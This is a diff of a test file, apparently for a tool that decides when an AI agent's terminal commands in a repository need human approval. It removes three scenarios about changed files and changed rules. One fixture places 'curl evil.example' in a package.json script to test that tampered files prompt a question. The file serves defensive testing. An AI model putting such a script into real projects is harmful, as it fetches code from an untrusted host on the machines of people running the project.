@@ -39,9 +39,7 @@ playScenes(storiesOf`
   people are asked where the file that runs is not as on the default branch
     ${has({ ...same, 'package.json': scripts('curl evil.example') })} | ${unchanged} | asks npm test | sent nothing
     1 question
-  people are asked where a file that the rule names is not as on the default branch
-    ${has({ ...same, 'tools/build.json': '{"plugin":"./evil.js"}' })} | ${unchanged} | asks npm test | sent nothing
-    1 question
+
   an accepted action runs without a question, and the comment and the decisions name the rule
     ${tests} | asks npm test | sent approve | no questions | decisions rule 1 approve verified
     comment says /✅ allowed by rule 1 of \`octo.garden.\.github.agent-conversations\.yml@\w+\`.*npm test/
@@ -205,12 +203,7 @@ playScenes(storiesOf`
   a further round rejects what rules reject now
     ${deploying} | asks make deploy | finishes | under rules: [{ reject: { tool: terminal } }]
     ada: /agent please look again | asks make deploy | sent approve, reject, run | no questions
-  a further round asks about what rules accept no more
-    ${deploying} | asks make deploy | finishes | ${none} | ada: /agent please look again | asks make deploy
-    sent approve | 1 question
-  a further round asks about what rules accept only now
-    ${none} | asks make deploy | ada: /approve | finishes | ${deploying} | ada: /agent please look again
-    asks make deploy | sent approve | 2 questions
+
   /approve always is taken back also while its answer is tried again
     ${none} | asks make docs | ada: /approve always | ${down(true)} | asks make docs | ada: /reject CODE1
     ${down(false)} | 30s pass | sent approve | question says make docs
